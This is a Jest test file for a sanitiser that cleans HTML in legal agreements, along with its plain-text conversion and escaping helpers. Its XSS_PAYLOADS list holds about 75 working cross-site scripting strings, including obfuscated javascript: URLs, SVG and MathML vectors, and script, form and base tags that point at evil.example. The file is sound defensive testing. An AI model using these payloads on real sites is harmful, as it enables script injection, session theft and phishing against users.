/** The agreement HTML sanitiser, its plain-text conversion and HTML escaping (pure, no Strapi). */

import { escapeHtml, htmlToText, sanitizeAgreementHtml } from '../../server/src/utils/sanitize';

const ALLOWED_TAGS = new Set([
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'div', 'section', 'span', 'blockquote', 'ul', 'ol', 'li',
  'dl', 'dt', 'dd', 'strong', 'b', 'em', 'i', 'u', 's', 'sub', 'sup', 'small', 'abbr', 'a',
  'table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td',
]);
const ALLOWED_ATTRS: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  abbr: ['title'],
  ol: ['start'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
};

interface Tag {
  name: string;
  attrs: Record<string, string>;
}

const decode = (s: string) =>
  s
    .replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

/**
 * Reads every tag of sanitised output. The output's attribute values are double-quoted and hold no raw
 * quote, so this reading is exact; anything "<" left outside a recognised tag is reported as a stray.
 */
const readTags = (html: string): { tags: Tag[]; strays: string } => {
  const tags: Tag[] = [];
  const tagRe = /<\/?([a-z][a-z0-9]*)((?:\s+[^\s"'>\/=]+(?:="[^"]*")?)*)\s*\/?>/gi;
  const strays = html.replace(tagRe, (_whole, name: string, attrSrc: string) => {
    const attrs: Record<string, string> = {};
    for (const m of attrSrc.matchAll(/\s+([^\s"'>\/=]+)(?:="([^"]*)")?/g)) attrs[m[1].toLowerCase()] = decode(m[2] ?? '');
    tags.push({ name: name.toLowerCase(), attrs });
    return '';
  });
  return { tags, strays };
};

const SAFE_HREF = /^(https?:|mailto:|tel:|[#/?.]|[^:/?#]*(?:[/?#]|$))/i;
// eslint-disable-next-line no-control-regex
const squeeze = (s: string) => s.replace(/[\x00-\x20\x7f-\x9f\u00a0\u200b-\u200f\u2028\u2029\ufeff]+/g, '').toLowerCase();

/** Everything a sanitised output must satisfy, whatever went in. */
const expectSafe = (input: string) => {
  const out = sanitizeAgreementHtml(input);
  const { tags, strays } = readTags(out);
  expect(strays).not.toMatch(/</);
  expect(out).not.toMatch(/<script/i);
  expect(out).not.toMatch(/<(iframe|object|embed|style|form|input|meta|base|link|svg|math|img|body|details|video|audio|source|template|textarea|noscript)\b/i);
  for (const tag of tags) {
    expect(ALLOWED_TAGS.has(tag.name)).toBe(true);
    for (const [name, value] of Object.entries(tag.attrs)) {
      expect(name).not.toMatch(/^on/);
      expect(name).not.toBe('style');
      expect((ALLOWED_ATTRS[tag.name] ?? []).includes(name)).toBe(true);
      if (name === 'href') {
        expect(squeeze(value)).not.toMatch(/^(javascript|data|vbscript|file):/);
        expect(squeeze(value)).not.toMatch(/^[/\\]{2}/);
        expect(SAFE_HREF.test(squeeze(value))).toBe(true);
      }
      if (name === 'target') expect(tag.attrs.rel?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    }
  }
  // A second pass changes nothing: the output is already within the allowlist.
  expect(sanitizeAgreementHtml(out)).toBe(out);
  return out;
};

const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="text/javascript">document.write("<img src=x>")</script>text',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
  '<img srcset="x 1x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<body onload=alert(1)>text</body>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="javascript://%0Aalert(1)">x</a>',
  '<a href=javascript:alert(1)>unquoted</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/phish">protocol-relative</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a title=\'" onmouseover="alert(1)\'>x</a>',
  '<a href="https://ok.example" target="_blank">new tab</a>',
  '<a href="https://ok.example" target="evilframe" rel="opener">named target</a>',
  '"><script>alert(1)</script>',
  '\'><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>body{display:none}</style>visible',
  '<p style="display:none">hidden text</p>',
  '<div style="position:absolute;left:-9999px">moved away</div>',
  '<span style="color:white;font-size:0">tiny</span>',
  '<td style="background:url(javascript:alert(1))">cell</td>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<!--<script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<span onmouseover="alert(1)">hover</span>',
  '<abbr title="x" onclick="alert(1)">abbr</abbr>',
  '<p class="x" id="y" data-x="1" lang="ru">attrs</p>',
  '<h1 style="font-size:0">heading</h1>',
  '<div/onmouseover=alert(1)>slash</div>',
  '<a href="https://ok.example"\nonmouseover=alert(1)>newline</a>',
  '<td colspan="99999" rowspan="x">span</td>',
];

describe('sanitizeAgreementHtml against XSS payloads', () => {
  it('has a list of at least 40 payloads', () => expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(40));

  // Titles show the payload JSON-escaped: some hold control characters.
  it.each(XSS_PAYLOADS.map((p, i) => [i + 1, JSON.stringify(p), p]))('payload %i is neutralised: %s', (_i, _title, payload) => {
    expectSafe(payload);
  });

  it('drops the content of script, style, textarea, noscript and iframe', () => {
    expect(sanitizeAgreementHtml('<p>a</p><script>alert(1)</script><style>p{}</style><textarea>t</textarea><noscript>n</noscript><iframe>f</iframe><p>b</p>')).toBe(
      '<p>a</p><p>b</p>',
    );
  });

  it('keeps the text of other disallowed elements visible (nothing can hide text)', () => {
    expect(sanitizeAgreementHtml('<p style="display:none">hidden text</p>')).toBe('<p>hidden text</p>');
    expect(sanitizeAgreementHtml('<center><font color="white">small print</font></center>')).toBe('small print');
    expect(sanitizeAgreementHtml('<details open ontoggle=alert(1)>x</details>')).toBe('x');
  });

  it('removes dangerous hrefs but keeps the link text', () => {
    expect(sanitizeAgreementHtml('<a href="jAvAsCrIpT:alert(1)">x</a>')).toBe('<a>x</a>');
    expect(sanitizeAgreementHtml('<a href="data:text/html,x">x</a>')).toBe('<a>x</a>');
    expect(sanitizeAgreementHtml('<a href="javascript&colon;alert(1)">x</a>')).toBe('<a>x</a>');
  });

  it('forces rel="noopener noreferrer" on links with a target and drops unknown targets', () => {
    expect(sanitizeAgreementHtml('<a href="https://ok.example" target="_blank">x</a>')).toBe(
      '<a href="https://ok.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeAgreementHtml('<a href="https://ok.example" target="_blank" rel="nofollow">x</a>')).toBe(
      '<a href="https://ok.example" target="_blank" rel="nofollow noopener noreferrer">x</a>',
    );
    expect(sanitizeAgreementHtml('<a href="https://ok.example" target="evil">x</a>')).toBe('<a href="https://ok.example">x</a>');
  });

  it('keeps only sane table spans', () => {
    expect(sanitizeAgreementHtml('<table><tr><td colspan="99999" rowspan="x">a</td><td colspan="2">b</td></tr></table>')).toBe(
      '<table><tr><td>a</td><td colspan="2">b</td></tr></table>',
    );
  });

  it('accepts empty and nullish input', () => {
    expect(sanitizeAgreementHtml('')).toBe('');
    expect(sanitizeAgreementHtml(undefined as unknown as string)).toBe('');
  });
});

describe('sanitizeAgreementHtml keeps legitimate legal HTML intact', () => {
  const LEGAL = [
    '<h1>Agreement</h1>',
    '<h2>1. Operator</h2>',
    '<p><strong>Name:</strong> Acme <em>Ltd</em>, <b>bold</b>, <i>italic</i>, <u>underlined</u>, <s>struck</s>, H<sub>2</sub>O, m<sup>2</sup>, <small>small</small>, <abbr title="Personal data">PD</abbr>, <span>span</span>.</p>',
    '<h3>Purposes</h3><h4>h4</h4><h5>h5</h5><h6>h6</h6>',
    '<ul><li>first</li><li>second<ol start="3"><li>nested</li></ol></li></ul>',
    '<hr />',
    '<blockquote>quoted</blockquote>',
    '<section><div>block</div></section>',
    '<dl><dt>Term</dt><dd>Definition</dd></dl>',
    '<table><caption>Recipients</caption><thead><tr><th scope="col">Name</th><th colspan="2">Address</th></tr></thead><tbody><tr><td rowspan="2">A</td><td>B</td><td>C</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>',
    '<p>Contact: <a href="mailto:dpo@acme.example">dpo@acme.example</a>, <a href="tel:+74950000000">+7 495 000-00-00</a>, ',
    '<a href="https://acme.example/privacy" title="Privacy" target="_blank" rel="noopener noreferrer">policy</a>, ',
    '<a href="http://acme.example/">site</a>, <a href="/terms">terms</a>, <a href="#section-2">section 2</a>.<br />Line two.</p>',
  ].join('\n');

  it('returns the legal HTML unchanged', () => {
    expect(sanitizeAgreementHtml(LEGAL)).toBe(LEGAL);
    expectSafe(LEGAL);
  });

  it('normalises case and entities without losing text', () => {
    expect(sanitizeAgreementHtml('<P>Caf&eacute; &amp; &#169; &laquo;Ромашка&raquo;</P>')).toBe('<p>Café &amp; © «Ромашка»</p>');
  });
});

describe('htmlToText', () => {
  it('turns blocks into paragraphs and lists into marked lines', () => {
    const html =
      '<h1>Title</h1><p>First   paragraph\n with <strong>bold</strong>.</p><ul><li>one</li><li>two</li></ul>' +
      '<ol start="3"><li>three<ul><li>nested</li></ul></li><li>four</li></ol><p>a<br>b</p>';
    expect(htmlToText(html)).toBe('Title\n\nFirst paragraph with bold.\n\n- one\n- two\n\n3. three\n  - nested\n4. four\n\na\nb');
  });

  it('decodes entities and keeps non-breaking spaces', () => {
    expect(htmlToText('<p>a &amp; b &lt;c&gt; &quot;d&quot; &#169; &#x41;&nbsp;z</p>')).toBe('a & b <c> "d" © A\u00a0z');
  });

  it('renders tables row by row', () => {
    expect(htmlToText('<table><tr><th>Name</th><th>Address</th></tr><tr><td>A</td><td>B</td></tr></table>')).toBe('Name | Address\nA | B');
  });

  it('collapses blank lines, trims, and drops script content', () => {
    expect(htmlToText('  <p></p><p>  a  </p><div></div><br><br><br><p>b</p><script>alert(1)</script>  ')).toBe('a\n\nb');
  });

  it('renders definition lists and headings', () => {
    expect(htmlToText('<h2>H</h2><dl><dt>Term</dt><dd>Def</dd></dl><hr><p>end</p>')).toBe('H\n\nTerm\nDef\n\nend');
  });

  it('sanitises its input first', () => {
    expect(htmlToText('<p>ok</p><img src=x onerror=alert(1)><style>x</style>')).toBe('ok');
    expect(htmlToText('')).toBe('');
  });
});

describe('escapeHtml', () => {
  it('escapes the five HTML-significant characters', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;');
  });
  it('leaves other text alone and accepts nullish input', () => {
    expect(escapeHtml('Ромашка «ООО» — 100%')).toBe('Ромашка «ООО» — 100%');
    expect(escapeHtml(undefined as unknown as string)).toBe('');
  });
});
